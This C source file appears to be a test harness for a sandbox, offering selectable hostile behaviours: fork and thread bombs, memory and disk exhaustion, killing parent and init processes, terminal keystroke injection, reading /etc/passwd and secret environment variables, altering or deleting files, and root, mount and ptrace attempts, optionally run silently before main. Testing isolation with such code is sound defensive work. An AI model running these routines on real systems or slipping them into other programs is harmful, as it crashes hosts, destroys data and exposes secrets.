/*
 * hostile - programs that try to harm whoever runs them, one for each kind
 *
 * usage: hostile KIND [ARGUMENT]
 *
 * With HOSTILE defined as a KIND it is a piece of somebody's program that does
 * so before main. What it learns that it should not, it prints after "STOLEN".
 * Never to be started outside a box.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <termios.h>
#include <unistd.h>

extern char **environ;

static const char *argument = "";

static void well(void)
{
	puts("well");
}

static void loop(void)
{
	for (;;)
		__asm__ volatile("");
}

static void deadlock(void)
{
	pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;

	pthread_mutex_lock(&lock);
	pthread_mutex_lock(&lock);
}

static void fork_bomb(void)
{
	for (;;) {
		if (fork() < 0)
			usleep(1000);
	}
}

static void *thread_of_bomb(void *unused)
{
	pause();
	return unused;
}

static void thread_bomb(void)
{
	pthread_t thread;
	unsigned n = 0;

	while (pthread_create(&thread, NULL, thread_of_bomb, NULL) == 0)
		n++;
	printf("%u threads\n", n);
	exit(n >= 1000);
}

static void memory(void)
{
	for (;;)
		memset(malloc(1 << 20), 1, 1);
}

static void output(void)
{
	for (;;)
		fputs("all work and no play makes Jack a dull boy\n", stdout);
}

static void big_file(void)
{
	char *block = calloc(1, 1 << 20);
	int fd = open("/tmp/big", O_WRONLY | O_CREAT, 0600);

	for (int i = 0; i < 10240; i++) {
		if (write(fd, block, 1 << 20) < 0) {
			perror("big file");
			exit(7);
		}
	}
}

static void many_files(void)
{
	char name[40];
	int fd;

	for (int i = 0; i < 1000000; i++) {
		snprintf(name, sizeof(name), "/tmp/many.%d", i);
		fd = open(name, O_WRONLY | O_CREAT, 0600);
		if (fd < 0) {
			perror("many files");
			exit(7);
		}
		close(fd);
	}
}

static void kill_ancestors(void)
{
	kill(getppid(), SIGKILL);
	kill(-1, SIGKILL);
	kill(1, SIGKILL);
	if (atoi(argument) > 0)
		kill(atoi(argument), SIGKILL);
	usleep(100000);
}

static void daemonise(void)
{
	if (fork())
		exit(0);
	setsid();
	if (fork())
		exit(0);
	pause();
}

static void hold_pipe(void)
{
	if (fork())
		exit(0);
	pause();
}

static void ignore_signals(void)
{
	for (int i = 1; i < 65; i++)
		signal(i, SIG_IGN);
	loop();
}

static void terminal(void)
{
	struct termios raw;
	int fd = open("/dev/tty", O_RDWR);

	if (fd >= 0 && tcgetattr(fd, &raw) == 0) {
		cfmakeraw(&raw);
		tcsetattr(fd, TCSANOW, &raw);
		ioctl(fd, TIOCSTI, "x");
		puts("STOLEN a terminal");
	}
	fputs("\033[2J\033]0;owned\007\033[?1049h\n", stdout);
}

static void show_file(const char *path)
{
	char line[100] = "";
	FILE *in = fopen(path, "r");

	if (in && fgets(line, sizeof(line), in))
		printf("STOLEN from %s: %s\n", path, line);
	if (in)
		fclose(in);
}

static void read_files(void)
{
	show_file("/etc/passwd");
	show_file("/etc/hostname");
	show_file("/proc/1/environ");
	if (*argument)
		show_file(argument);
}

static void change_files(void)
{
	static const char *const paths[] = {"/etc/passwd", "/usr/bin/cc",
		"/var/tmp/conc-hostile", "/conc-hostile", "/usr/conc-hostile",
		"/dev/conc-hostile", "/proc/sys/kernel/hostname"};

	for (size_t i = 0; i < sizeof(paths) / sizeof(*paths); i++) {
		if (open(paths[i], O_WRONLY | O_APPEND | O_CREAT, 0600) >= 0)
			printf("STOLEN: %s can be written\n", paths[i]);
	}
	if (*argument && open(argument, O_WRONLY) >= 0)
		printf("STOLEN: %s can be written\n", argument);
	if (*argument && chmod(argument, 0777) == 0)
		printf("STOLEN: %s can be changed\n", argument);
	if (*argument && unlink(argument) == 0)
		printf("STOLEN: %s can be removed\n", argument);
}

static void environment(void)
{
	for (char **text = environ; *text; text++) {
		if (strstr(*text, "secret"))
			printf("STOLEN from the environment: %s\n", *text);
	}
}

static void network(void)
{
	struct sockaddr_in there = {.sin_family = AF_INET,
		.sin_port = htons((unsigned short)atoi(argument)),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd >= 0 && connect(fd, (void *)&there, sizeof(there)) == 0)
		puts("STOLEN: a connection");
}

static void descriptors(void)
{
	for (int fd = 3; fd < 1000; fd++) {
		if (fcntl(fd, F_GETFD) >= 0)
			printf("STOLEN descriptor %d\n", fd);
	}
}

static void zombies(void)
{
	for (int i = 0; i < 20; i++) {
		if (fork() == 0)
			_exit(0);
	}
	usleep(50000);
}

static void privileges(void)
{
	if (mount("none", "/tmp", "tmpfs", 0, NULL) == 0)
		puts("STOLEN: a mount");
	if (setuid(0) == 0 && getuid() == 0)
		puts("STOLEN: root");
	if (ptrace(PTRACE_ATTACH, getppid(), 0, 0) == 0)
		puts("STOLEN: a parent");
}

static void status(void)
{
	exit(atoi(argument));
}

static void crash(void)
{
	raise(atoi(argument));
}

static const struct {
	const char *name;
	void (*run)(void);
} kinds[] = {
	{"well", well},
	{"loop", loop},
	{"deadlock", deadlock},
	{"fork-bomb", fork_bomb},
	{"thread-bomb", thread_bomb},
	{"memory", memory},
	{"output", output},
	{"big-file", big_file},
	{"many-files", many_files},
	{"kill-ancestors", kill_ancestors},
	{"daemonise", daemonise},
	{"hold-pipe", hold_pipe},
	{"ignore-signals", ignore_signals},
	{"terminal", terminal},
	{"read-files", read_files},
	{"change-files", change_files},
	{"environment", environment},
	{"network", network},
	{"descriptors", descriptors},
	{"zombies", zombies},
	{"privileges", privileges},
	{"status", status},
	{"crash", crash},
};

static int be_hostile(const char *kind)
{
	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
		if (!strcmp(kinds[i].name, kind)) {
			kinds[i].run();
			return 0;
		}
	}
	return 99;
}

#ifdef HOSTILE

__attribute__((constructor)) static void before_main(void)
{
#ifdef HOSTILE_ARGUMENT
	argument = HOSTILE_ARGUMENT;
#endif
	be_hostile(HOSTILE);
}

#else

int main(int argc, char **argv)
{
	if (argc > 2)
		argument = argv[2];
	return be_hostile(argc > 1 ? argv[1] : "");
}

#endif
